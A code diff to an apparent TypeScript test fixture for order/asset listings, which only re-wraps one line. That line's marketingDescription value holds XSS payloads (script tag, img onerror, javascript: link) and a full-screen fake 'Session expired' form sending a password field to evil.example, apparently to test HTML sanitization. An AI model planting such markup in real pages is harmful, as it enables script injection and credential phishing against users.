@@ -58,7 +58,8 @@ export function orderDetail(patch: Partial<OrderDetail> = {}, assetPatch: Partia
       askingPrice: 1250000,
       description: 'Retail centre on the lake front',
       thumbnailUrl: 'https://img.example.com/harbor.jpg',
-      marketingDescription: '<p>Prime <b>corner</b> lot<script>alert(1)</script><img src="x" onerror="alert(2)"></p><div style="position:fixed;inset:0">Session expired<form action="https://evil.example"><input name="password"></form></div><a href="javascript:alert(3)">more</a>',
+      marketingDescription:
+        '<p>Prime <b>corner</b> lot<script>alert(1)</script><img src="x" onerror="alert(2)"></p><div style="position:fixed;inset:0">Session expired<form action="https://evil.example"><input name="password"></form></div><a href="javascript:alert(3)">more</a>',
       companyNames: ['Harbor Commercial'],
       activatedOn: '2026-01-10T12:00:00.000Z',
       updatedOn: '2026-01-20T12:00:00.000Z',
